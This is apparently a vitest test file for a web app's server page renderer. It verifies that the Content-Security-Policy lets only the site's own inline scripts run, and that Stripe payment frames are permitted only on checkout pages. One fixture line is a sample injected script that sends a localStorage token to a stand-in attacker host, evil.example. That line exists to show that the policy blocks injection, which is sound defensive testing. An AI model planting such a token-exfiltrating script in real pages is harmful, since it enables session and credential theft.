import type { RouterContextProvider, ServerBuild } from 'react-router'
import { describe, expect, it } from 'vitest'
import { locales } from '../../i18n/locale.ts'
import { readConfig } from '../../platform/config.ts'
import { href, type ScreenName, screenOf, screens } from '../../screens.ts'
import { inlineScriptsContext, renderedHtmlContext } from '../context.ts'
import type { PublicConfig } from '../public-config.ts'
import { hashOf } from '../security.ts'
import { createPageRenderer } from './page-renderer.ts'

const ours = 'startOfOurs()'
const injected = 'fetch("https://evil.example/?" + localStorage.token)'

function renderer(development: boolean) {
  const handleRequest = async (
    _request: Request,
    status: number,
    headers: Headers,
    _context: unknown,
    load: RouterContextProvider,
  ) => {
    headers.set('content-type', 'text/html; charset=utf-8')
    load.set(inlineScriptsContext, [ours])
    load.set(renderedHtmlContext, `<script>${ours}</script><p>a text<script>${injected}</script></p>`)
    return new Response(null, { status, headers })
  }
  const route = { id: 'root', path: '*', module: { default: () => null } }
  const build = {
    entry: { module: { default: handleRequest } },
    routes: { root: route },
    assets: { routes: {}, entry: { imports: [], module: '' }, url: '', version: '1' },
    future: {},
    routeDiscovery: { mode: 'initial' },
    ...{ publicPath: '/', assetsBuildDirectory: '', ssr: true, isSpaMode: false, prerender: [] },
  } as unknown as ServerBuild
  return createPageRenderer({
    build,
    config: readConfig({}),
    publicConfig: {
      apiUrl: '/api',
      siteUrl: 'https://clairavis.test',
      paymentSandbox: null,
      development,
    } as PublicConfig,
    reader: () => (() => {}) as never,
    sender: () => (async () => null) as never,
    isStaff: async () => false,
  })
}

const scriptSources = async (development = false) => {
  const { headers, html } = await renderer(development).render('/fr/page')
  expect(html).toContain(injected)
  return /script-src ([^;]*)/.exec(headers.get('content-security-policy') ?? '')?.[1]?.split(' ')
}

describe('the policy of a page', () => {
  it('names our own scripts and none that stands in the page besides: an injected one does not run', async () => {
    expect(await scriptSources()).toEqual(["'self'", hashOf(ours)])
  })

  it('lets the bundler’s scripts run during development alone', async () => {
    expect(await scriptSources(true)).toContain(hashOf(injected))
  })
})

describe('a page on which a card is typed', () => {
  /** Every screen that may show Stripe's frames: orders, another card, a payment that the bank asks about. */
  const names = (Object.keys(screens) as ScreenName[]).filter((name) => screenOf(name).kind === 'checkout')
  const paths = locales.flatMap((locale) =>
    names.map((name) => href(name, locale, { expertId: '1', token: 'own' } as never)),
  )

  it('is one of four, in two languages', () => {
    expect(names).toEqual(['checkout', 'checkout-expert', 'plan-card', 'plan-confirm'])
    expect(new Set(paths).size).toBe(8)
  })

  it.each(paths)('%s lets the frames of Stripe ask for a wallet, in what is sent', async (path) => {
    const { headers } = await renderer(false).respond(new Request(`https://clairavis.test${path}`))
    const policy = headers.get('permissions-policy') ?? ''
    const frames = /frame-src ([^;]*)/.exec(headers.get('content-security-policy') ?? '')?.[1]?.split(' ')
    const allowed = /payment=\(([^)]*)\)/.exec(policy)?.[1]?.split(' ')
    for (const frame of ['https://js.stripe.com', 'https://*.js.stripe.com', 'https://hooks.stripe.com']) {
      expect(frames).toContain(frame)
      expect(allowed).toContain(`"${frame}"`)
    }
    // Unnamed, it is the frame's own attribute that grants it (https://www.w3.org/TR/webauthn-3/#sctn-iframe-guidance).
    expect(policy).not.toContain('publickey-credentials-get')
  })

  it('is the only one that does', async () => {
    const { headers } = await renderer(false).respond(new Request('https://clairavis.test/fr/user'))
    expect(headers.get('permissions-policy')).toContain('payment=(self),')
  })
})
